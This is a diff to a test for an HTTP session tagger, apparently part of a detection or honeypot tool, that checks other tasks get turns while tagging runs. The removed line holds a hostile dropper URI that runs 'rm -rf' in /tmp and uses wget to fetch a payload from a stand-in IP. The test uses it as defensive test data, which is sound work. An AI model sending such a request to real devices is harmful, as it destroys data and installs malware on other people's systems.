@@ -212,8 +212,12 @@ test('others have turns between sessions, and between the rules that one session
     setImmediate(other)
   }
   setImmediate(other)
-  const uri = '/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/jaws;/cgi-bin/;chmod /etc/passwd /.env'
-  await tagger.tag([exampleSession({ http: exampleHttp({ uri, path: uri }) })], () => (clock += 20))
+  const texts = loadTags().flatMap(({ rule }) =>
+    [...rule.matchAll(/http\.uri:"([^"]+)"/g)].flatMap(([, pattern = '']) => pattern.split('*')),
+  )
+  const uri = [...new Set(texts)].slice(0, 60).join('')
+  const requests = Array.from({ length: 40 }, () => ({ uri, path: uri }))
+  await tagger.tag([exampleSession({ http: exampleHttp(...requests) })], () => (clock += 20))
   made = true
-  expect(others).toBeGreaterThan(2)
+  expect(others).toBeGreaterThan(20)
 })
